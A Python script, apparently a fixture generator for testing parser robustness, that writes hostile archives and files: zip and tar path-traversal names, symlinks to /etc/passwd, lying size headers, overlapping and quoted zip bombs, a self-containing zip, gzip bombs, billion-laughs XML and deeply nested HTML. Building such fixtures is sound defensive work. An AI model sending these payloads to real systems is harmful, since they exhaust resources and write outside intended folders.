"""Writes archives that mean harm into the current folder.

Each has, beside the harm, what is good in it: what a reader has to save.
"""

import gzip
import io
import lzma
import struct
import tarfile
import zlib
import zipfile

import quine

EMPTY = b"PK\5\6" + bytes(18)


def deflated(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def local(name, data, size=None, method=0, crc=None, packed=None):
    """A local header; what it says may differ from what is true."""
    packed = len(data) if packed is None else packed
    size = packed if size is None else size
    crc = zlib.crc32(data) if crc is None else crc
    return struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, method, 0, 33, crc,
                       packed, size, len(name), 0) + name


def central(name, offset, crc, packed, size, method=0, extra=b""):
    return struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, method, 0, 33, crc,
                       packed, size, len(name), len(extra), 0, 0, 0, 0,
                       offset) + name + extra


def end(count, size, offset):
    return struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, size, offset,
                       0)


def archive(entries, count=None, tail=None):
    """A zip of (local header and data, central header without offset)."""
    data, directory = b"", b""
    for content, entry in entries:
        directory += entry(len(data))
        data += content
    count = len(entries) if count is None else count
    tail = tail or (lambda at, size: end(count, size, at))
    return data + directory + tail(len(data), len(directory))


def stored(name, data, inner=None):
    """A stored member, whose local header may give another name."""
    crc = zlib.crc32(data)
    return (local(inner or name, data) + data,
            lambda at: central(name, at, crc, len(data), len(data)))


def write(name, data):
    with open(name, "wb") as file:
        file.write(data)


# --- Names -------------------------------------------------------------------

GOOD = stored(b"good.txt", b"This one is good.")


def names():
    write("slip.zip", archive([GOOD] + [stored(name, b"evil") for name in (
        b"../../evil.txt", b"/tmp/evil.txt", b"C:\\evil.txt",
        b"..\\..\\evil.txt", b"a/../../../evil.txt")]))
    write("control.zip", archive([GOOD] + [stored(name, b"evil") for name in (
        b"nul\0.txt", b"\x1b[2Jclear.txt", b"line\nbreak.txt",
        b"bell\7.txt", b"\xff\xfe.txt", b"", b".", b"..")]))
    write("duplicates.zip", archive(
        [stored(b"same.txt", text) for text in (b"one", b"two", b"three")]))
    write("mismatch.zip", archive([GOOD, stored(b"shown.txt", b"one",
                                                b"hidden.exe")]))


# --- Sizes and counts --------------------------------------------------------

def counts():
    two = [GOOD, stored(b"other.txt", b"another")]
    write("few.zip", archive(two, count=1))
    write("many.zip", archive(two, count=5000))
    lies = (local(b"lies.txt", b"short") + b"short",
            lambda at: central(b"lies.txt", at, zlib.crc32(b"short"), 5,
                               0xFFFFFFF0))
    write("size.zip", archive([GOOD, lies]))


def zip64():
    huge = struct.pack("<2H3Q", 1, 24, 1 << 62, 1 << 62, 1 << 63)
    entry = (local(b"huge.txt", b"short") + b"short",
             lambda at: central(b"huge.txt", 0xFFFFFFFF, 0, 0xFFFFFFFF,
                                0xFFFFFFFF, extra=huge))
    write("zip64-extra.zip", archive([GOOD, entry]))

    def lost(at, size):
        locator = struct.pack("<4sIQI", b"PK\6\7", 0, 1 << 60, 1)
        return locator + end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    write("zip64-locator.zip", archive([GOOD], tail=lost))

    def endless(at, size):
        record = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0,
                             1 << 63, 1 << 63, size, at)
        locator = struct.pack("<4sIQI", b"PK\6\7", 0, at + size, 1)
        return record + locator + end(1, size, at)
    write("zip64-count.zip", archive([GOOD], tail=endless))


def dictionary():
    """A dictionary of 4 GiB for one document of 5 bytes."""
    packed = lzma.compress(b"short", lzma.FORMAT_ALONE)
    data = b"\x10\x04\x05\x00" + packed[:1] + b"\xff" * 4 + packed[13:]
    crc = zlib.crc32(b"short")
    write("dictionary.zip", archive([GOOD, (
        local(b"x", b"", 5, 14, crc, len(data)) + data,
        lambda at: central(b"x", at, crc, len(data), 5, 14))]))


# --- Bombs -------------------------------------------------------------------

def overlap():
    """Many names for one member."""
    kernel = deflated(bytes(1 << 20))
    crc = zlib.crc32(bytes(1 << 20))
    data = local(b"0000", b"", 1 << 20, 8, crc, len(kernel)) + kernel
    directory = b"".join(central(b"%04d" % i, 0, crc, len(kernel), 1 << 20, 8)
                         for i in range(5000))
    write("overlap.zip", data + directory +
          end(5000, len(directory), len(data)))


def quoted():
    """Fifield, "A better zip bomb" (2019): each member quotes the header of
    the next in a stored block, so that all of them share one kernel."""
    kernel = bytes(1 << 20)
    content, body = kernel, deflated(kernel)
    members, blob = [], b""
    for i in reversed(range(250)):
        name = b"%04d" % i
        header = local(name, b"", len(content), 8, zlib.crc32(content),
                       len(body))
        blob = header + body
        members.append((name, zlib.crc32(content), len(body), len(content),
                        len(blob)))
        quote = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF)
        content, body = header + content, quote + blob
    directory = b"".join(
        central(name, len(blob) - tail, crc, packed, size, 8)
        for name, crc, packed, size, tail in reversed(members))
    write("quoted.zip", blob + directory +
          end(len(members), len(directory), len(blob)))


def nested():
    inner = b"The innermost document."
    for depth in range(40):
        inner = archive([GOOD, stored(b"%02d.zip" % depth, inner)])
    write("nested.zip", inner)


def within_itself():
    """A zip whose only member is the zip."""
    name = b"a-zip-that-has-itself-in-it.zip"

    def build(crc, packed=0, size=0):
        head = local(name, b"", size, 8, crc, packed)
        entry = central(name, 0, crc, packed, size, 8)
        tail = entry + end(1, len(entry), len(head) + packed)
        return head, quine.itself(head, tail), tail

    head, body, tail = build(0)
    packed, size = len(body), len(head + body + tail)
    crc = quine.solve(lambda crc: zlib.crc32(
        b"".join(build(crc, packed, size))))
    write("quine.zip", b"".join(build(crc, packed, size)))


def ratio():
    write("zeros.gz", gzip.compress(bytes(30 << 20), 9))
    head = gzip.compress(bytes(64))
    slow = bytes(32 << 20)
    for _ in range(3):
        packer = zlib.compressobj(9, zlib.DEFLATED, 31, 8, zlib.Z_HUFFMAN_ONLY)
        slow = packer.compress(slow) + packer.flush()
    write("three.gz", slow)
    write("layers.gz", gzip.compress(gzip.compress(gzip.compress(
        gzip.compress(head)))))
    write("members.gz", gzip.compress(b"x" * 3000000) +
          b"\x1f\x8b\x08\x01\x02" * 600000)


# --- Tar ---------------------------------------------------------------------

def entry(name, data=b"", kind=tarfile.REGTYPE, size=None, link=""):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, link
    info.size = len(data) if size is None else size
    padding = bytes(-len(data) % 512)
    return info.tobuf(tarfile.USTAR_FORMAT) + data + padding


def pax(records, name, data, size=None):
    return entry("PaxHeaders/x", records, b"x") + entry(name, data, size=size)


def record(key, value):
    body = b" %s=%s\n" % (key, value)
    size = len(body) + len(str(len(body) + 2))
    return b"%d%s" % (size, body)


def tars():
    good = entry("good.txt", b"This one is good.")
    tail = entry("last.txt", b"This one as well.") + bytes(1024)
    write("pax-larger.tar", good +
          pax(record(b"size", b"999999999999"), "large", b"small") + tail)
    write("pax-smaller.tar", good +
          pax(record(b"size", b"5"), "small", b"small", size=3 << 30) + tail)
    for number, records in enumerate((
            b"99999999999999999999 path=x\n", b"12 path", b"0 path=x\n",
            b"-5 path=x\n", b"9 =value\n", b"path=x\n", b"20 size=1e9\n",
            record(b"size", b"-1"), record(b"path", b"../../evil.txt"),
            record(b"GNU.sparse.map", b"0,9999999999999999999"))):
        write("pax-%d.tar" % number, good +
              pax(records, "marked.txt", b"marked") + tail)
    write("links.tar", good + b"".join(
        entry(name, kind=kind, link=link) for name, kind, link in (
            ("soft.txt", tarfile.SYMTYPE, "/etc/passwd"),
            ("hard.txt", tarfile.LNKTYPE, "../../../etc/passwd"),
            ("null", tarfile.CHRTYPE, ""), ("disk", tarfile.BLKTYPE, ""),
            ("pipe", tarfile.FIFOTYPE, ""))) +
          entry("soft.txt/under.txt", b"under a link") + tail)
    write("slip.tar", good + entry("../../evil.txt", b"evil") +
          entry("/tmp/evil.txt", b"evil") + tail)
    write("negative.tar", good +
          entry("negative", b"")[:124] + b"\xff" * 12 +
          entry("negative", b"")[136:] + tail)


# --- Records and markup ------------------------------------------------------

def records():
    def warc(uri, length, body):
        return (b"WARC/1.0\r\nWARC-Type: resource\r\nWARC-Target-URI: %s\r\n"
                b"Content-Length: %s\r\n\r\n%s\r\n\r\n" % (uri, length, body))
    write("int64.warc", warc(b"urn:1", b"4", b"good") +
          warc(b"urn:2", b"9223372036854775807", b"evil") +
          warc(b"urn:3", b"4", b"good"))
    with open("line.jsonl", "wb") as file:
        file.write(b'{"text":"')
        file.truncate(2 << 30)
        file.seek(2 << 30)
        file.write(b'x"}\n{"text":"small"}\n')
    with open("field.jsonl", "wb") as file:
        file.write(b'{"text":"small","raw":"')
        file.truncate(256 << 20)
        file.seek(256 << 20)
        file.write(b'x"}\n{"text":"small"}\n')
    write("lengths.warc", b"".join(
        b"WARC/1.0\r\nWARC-Type: resource\r\nContent-Length: 1000000\r\n\r\n"
        for _ in range(40000)))
    write("deep.jsonl", b'{"text":"deep","x":' + b"[" * 1000000 +
          b'\n{"text":"small"}\n')


def markup():
    deep = 1000000
    write("deep.html", b"<!doctype html>" + b"<div>" * deep + b"bottom")
    write("slash.html", b"<!doctype html>" + b"<div/>" * deep + b"bottom")
    write("many.html", b"<!doctype html><p" + b"".join(
        b" a%d=1" % i for i in range(400000)) + b">text")
    write("flat.html", b"<!doctype html>" + b"<i>w</i> " * deep)
    write("open.html", b"<!doctype html>" +
          b"<nobr>w<li><p><dd>w" * 12000)
    write("fonts.html", b"<!doctype html>" + b"".join(
        b"<p><font color=%d>w</p>" % i for i in range(20000)))
    write("lists.html", b"<!doctype html>" + b"<p><a/><i/><b/><ul><li>w" * 3000)
    write("deep.xml", b"<?xml version='1.0'?>" + b"<a>" * deep + b"x" +
          b"</a>" * deep)
    lol = b"".join(b'<!ENTITY e%d "%s">' % (i, b"&e%d;" % (i - 1) * 10)
                   for i in range(1, 30))
    write("laughs.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "lol">'
          + lol + b"]><x>&e29;</x>")
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as docx:
        docx.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.'
                      'openxmlformats.org/package/2006/content-types"/>')
        docx.writestr("word/document.xml", b"<w:document xmlns:w='http://"
                      b"schemas.openxmlformats.org/wordprocessingml/2006/main'"
                      b"><w:body>" + b" " * (300 << 20))
    write("bomb.docx", packed.getvalue())


if __name__ == "__main__":
    for make in (names, counts, zip64, dictionary, overlap, quoted, nested,
                 within_itself, ratio, tars, records, markup):
        make()
